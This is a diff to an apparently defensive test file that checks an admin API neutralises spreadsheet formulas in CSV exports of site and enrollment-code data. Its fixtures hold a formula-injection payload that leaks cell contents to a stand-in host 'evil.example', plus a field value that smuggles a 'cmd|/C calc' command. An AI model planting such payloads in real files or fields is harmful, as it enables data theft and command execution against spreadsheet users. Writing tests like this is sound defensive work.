@@ -9,7 +9,6 @@ import type { ComplianceRun } from '../../collector/compliance/verdicts.ts';
 import { type HostileStack, hostileStack } from './support.ts';
 
 const influxUrl = inject('influxUrl');
-const ADMIN = { authorization: 'Bearer test-admin-token-0123', 'content-type': 'application/json' };
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
 let s: HostileStack;
 beforeAll(async () => {
@@ -23,18 +22,18 @@ const dangerous = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(
 
 describe('CSV exports and a hostile site name', () => {
   it('neutralises formulas in the site export, and the export imports unchanged', async () => {
-    const res = await s.tc.app.request('/api/v1/admin/sites/export', { headers: ADMIN });
+    const res = await s.tc.app.request('/api/v1/admin/sites/export', { headers: s.tc.adminAuth() });
     const csv = await res.text();
     expect(cells(csv).filter(dangerous)).toEqual([]);
     expect(cells(csv)).toContain(`'${FORMULA}`);
-    const imported = await s.tc.app.request('/api/v1/admin/sites/import', { method: 'POST', headers: { authorization: ADMIN.authorization, 'content-type': 'text/csv' }, body: csv });
+    const imported = await s.tc.app.request('/api/v1/admin/sites/import', { method: 'POST', headers: { authorization: `Bearer ${s.tc.adminToken}`, 'content-type': 'text/csv' }, body: csv });
     expect(imported.status).toBe(200);
     expect(await imported.json()).toMatchObject({ created: 0, updated: 0 });
     expect(await s.tc.registry.getSite('LC-666')).toMatchObject({ name: FORMULA, commune: '+1+cmd|/C calc', operator: '@SUM(A1)' });
   });
 
   it('neutralises formulas in the enrollment-code CSV', async () => {
-    const res = await s.tc.app.request('/api/v1/admin/enrollment-sheets', { method: 'POST', headers: ADMIN, body: JSON.stringify({ sites: ['LC-666'], format: 'csv' }) });
+    const res = await s.tc.app.request('/api/v1/admin/enrollment-sheets', { method: 'POST', headers: s.tc.adminAuth(), body: JSON.stringify({ sites: ['LC-666'], format: 'csv' }) });
     expect(res.status).toBe(200);
     const all = cells(await res.text());
     expect(all.filter(dangerous)).toEqual([]);
